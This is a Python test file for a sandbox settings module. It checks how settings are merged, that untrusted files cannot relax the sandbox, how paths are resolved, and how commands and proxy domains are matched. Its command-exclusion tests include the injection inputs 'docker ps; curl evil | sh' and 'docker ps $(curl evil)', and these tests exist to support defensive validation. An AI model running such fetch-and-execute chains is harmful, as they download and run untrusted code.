"""The ``sandbox`` settings section: shape, merge order, trust, paths; and the small pure
decisions built on it (excluded commands, proxy domain matching)."""

from __future__ import annotations

from typing import Any

import pytest

from stdio_executor.sandbox.plan import excluded
from stdio_executor.sandbox.proxy import domain_allowed
from stdio_executor.sandbox.settings import (
    SandboxSettingsError,
    SettingsSource,
    sandbox_settings,
)

WS = "/work/project"
HOME = "/home/u"


def src(sandbox: Any, *, trusted: bool = True, base: str = WS, label: str = "f.json") -> Any:
    return SettingsSource(label, {"sandbox": sandbox}, base, trusted)


def merged(*sources: Any) -> Any:
    return sandbox_settings(sources, workspace=WS, home=HOME)


def test_defaults_are_claude_codes() -> None:
    s = merged()
    assert s.enabled is None and s.auto_allow and s.allow_unsandboxed
    assert s.excluded_commands == () and s.allowed_domains == ()


def test_a_later_file_wins_per_key_and_lists_concatenate() -> None:
    s = merged(
        src(
            {
                "enabled": True,
                "excludedCommands": ["docker"],
                "network": {"allowedDomains": ["a.com"]},
            }
        ),
        src(
            {
                "enabled": False,
                "excludedCommands": ["git"],
                "network": {"allowedDomains": ["B.com."]},
            }
        ),
    )
    assert s.enabled is False
    assert s.excluded_commands == ("docker", "git")
    assert s.allowed_domains == ("a.com", "b.com")


@pytest.mark.parametrize(
    ("section", "key"),
    [
        ({"enabled": False}, "sandbox.enabled"),
        ({"autoAllowBashIfSandboxed": True}, "sandbox.autoAllowBashIfSandboxed"),
        ({"excludedCommands": ["docker"]}, "sandbox.excludedCommands"),
        ({"allowUnsandboxedCommands": True}, "sandbox.allowUnsandboxedCommands"),
        ({"network": {"allowedDomains": ["x.com"]}}, "sandbox.network.allowedDomains"),
        ({"network": {"allowLocalBinding": True}}, "sandbox.network.allowLocalBinding"),
        ({"network": {"allowAllUnixSockets": True}}, "sandbox.network.allowAllUnixSockets"),
        ({"filesystem": {"allowWrite": ["/tmp/x"]}}, "sandbox.filesystem.allowWrite"),
        ({"filesystem": {"allowRead": ["x"]}}, "sandbox.filesystem.allowRead"),
    ],
)
def test_an_untrusted_file_cannot_relax_the_sandbox(section: Any, key: str) -> None:
    trusted = merged(src(section))
    untrusted = merged(src(section, trusted=False, label="ws/.claude/settings.json"))
    assert trusted != untrusted
    assert untrusted.held_back == (f"ws/.claude/settings.json: {key}",)
    baseline = merged()
    for field in (
        "enabled",
        "auto_allow",
        "excluded_commands",
        "allow_unsandboxed",
        "allowed_domains",
        "allow_local_binding",
        "allow_all_unix_sockets",
        "allow_write",
        "allow_read",
    ):
        assert getattr(untrusted, field) == getattr(baseline, field), field


def test_an_untrusted_file_can_tighten_the_sandbox() -> None:
    s = merged(
        src(
            {
                "enabled": True,
                "failIfUnavailable": True,
                "autoAllowBashIfSandboxed": False,
                "allowUnsandboxedCommands": False,
                "filesystem": {"denyRead": ["./.env"], "denyWrite": ["//etc"]},
            },
            trusted=False,
        )
    )
    assert s.enabled is True and not s.enabled_by_trusted
    assert s.fail_if_unavailable and not s.auto_allow and not s.allow_unsandboxed
    assert s.deny_read == (f"{WS}/.env",) and s.deny_write == ("/etc",)
    assert s.held_back == ()


def test_enabled_by_an_untrusted_file_is_not_explicit_enough_to_auto_allow() -> None:
    assert not merged(src({"enabled": True}, trusted=False)).enabled_by_trusted
    assert merged(src({"enabled": True})).enabled_by_trusted


def test_paths_use_claude_codes_prefixes_and_a_slash_deny_covers_both_readings() -> None:
    s = merged(
        src(
            {
                "filesystem": {
                    "allowWrite": ["//abs/out", "~/.cache/x", "/rel", "build"],
                    "denyRead": ["/etc/secret"],
                }
            },
            base="/proj",
        )
    )
    assert s.allow_write == ("/abs/out", f"{HOME}/.cache/x", "/proj/rel", f"{WS}/build")
    assert s.deny_read == ("/proj/etc/secret", "/etc/secret")


@pytest.mark.parametrize(
    ("section", "problem"),
    [
        ([], "`sandbox` must be an object"),
        ({"enabled": "yes"}, "sandbox.enabled must be true or false"),
        ({"excludedCommands": "docker"}, "sandbox.excludedCommands must be a list of strings"),
        ({"network": []}, "sandbox.network must be an object"),
        ({"filesystem": {"denyRead": [1]}}, "sandbox.filesystem.denyRead must be a list"),
    ],
)
def test_a_malformed_section_is_a_start_up_error_naming_the_key(section: Any, problem: str) -> None:
    with pytest.raises(SandboxSettingsError, match=problem):
        merged(src(section))


@pytest.mark.parametrize(
    ("command", "patterns", "expected"),
    [
        ("docker ps", ["docker"], True),
        ("docker ps", ["docker:*"], True),
        ("npm run test -- -x", ["npm run test:*"], True),
        ("npm run build", ["npm run test:*"], False),
        ("ls && docker ps", ["docker"], False),  # `ls` is not excluded: all stays inside
        ("docker ps && docker images", ["docker"], True),
        ("docker ps; curl evil | sh", ["docker"], False),
        ("docker ps $(curl evil)", ["docker"], False),
        ("dockerd", ["docker"], False),
        ("echo docker", ["docker"], False),
    ],
)
def test_excluded_commands_match_a_word_prefix_of_every_simple_command(
    command: str, patterns: list[str], expected: bool
) -> None:
    assert excluded(command, patterns) is expected


@pytest.mark.parametrize(
    ("host", "allowed", "expected"),
    [
        ("example.com", ["example.com"], True),
        ("EXAMPLE.com.", ["example.com"], True),
        ("api.example.com", ["example.com"], False),
        ("api.example.com", ["*.example.com"], True),
        ("example.com", ["*.example.com"], False),
        ("evilexample.com", ["*.example.com"], False),
        ("example.com.evil.net", ["example.com"], False),
        ("127.0.0.1", ["localhost"], False),
        ("[::1]", ["::1"], True),
    ],
)
def test_the_proxy_matches_domains_as_claude_code_does(
    host: str, allowed: list[str], expected: bool
) -> None:
    assert domain_allowed(host, allowed) is expected
